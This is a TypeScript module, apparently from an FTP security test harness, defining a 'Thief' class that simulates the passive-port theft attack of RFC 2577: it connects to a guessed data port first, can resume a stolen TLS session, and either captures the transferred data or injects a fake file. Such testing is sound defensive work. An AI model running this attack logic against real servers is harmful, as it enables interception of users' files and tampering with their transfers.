/**
 * Off the path: whoever guesses a passive port and connects before the true peer does (RFC 2577 8, CERT VU#2558).
 *
 * The guess is taken as right: the thief is told the port in the moment in which the client hears of it, which is
 * earlier than any other server can connect. It fetches what is sent there, or feeds a file of its own.
 */
import { pose, reach, swallow } from './channel.js';
import type { Credentials } from './credentials.js';
import type { Loot } from './middle.js';

export interface ThiefPlan {
  /** Address of the thief. */
  readonly from: string;
  readonly deed: 'fetch' | 'feed';
  /** Its TLS role, the counterpart of the listener's; undefined = no TLS. */
  readonly role: 'client' | 'server' | undefined;
  readonly credentials: Credentials;
  /** TLS session of a connection that the thief was entitled to. */
  readonly session?: Buffer | undefined;
  readonly maxVersion?: 'TLSv1.2' | undefined;
  readonly fake: Buffer;
}

export class Thief implements Loot {
  fed = 0;
  connections = 0;
  /** The stolen session was taken up again. */
  resumed = false;
  private readonly pieces: Buffer[] = [];

  constructor(private readonly plan: ThiefPlan) {}

  get seen(): Buffer {
    return Buffer.concat(this.pieces);
  }

  /** Resolves when the connection is over. */
  async strike(host: string, port: number): Promise<void> {
    const { from, role, credentials, session, maxVersion, deed, fake } = this.plan;
    const raw = await reach(host, port, from);
    if (!raw) return;
    this.connections += 1;
    const socket = role ? await pose(raw, { role, credentials, session, maxVersion }) : raw;
    if (!socket) return;
    if (role === 'client' && 'isSessionReused' in socket) this.resumed = socket.isSessionReused() as boolean;
    if (deed === 'feed') {
      this.fed += fake.length;
      socket.end(fake);
    }
    await swallow(socket, (piece) => this.pieces.push(piece));
    socket.end();
    raw.destroySoon();
  }
}
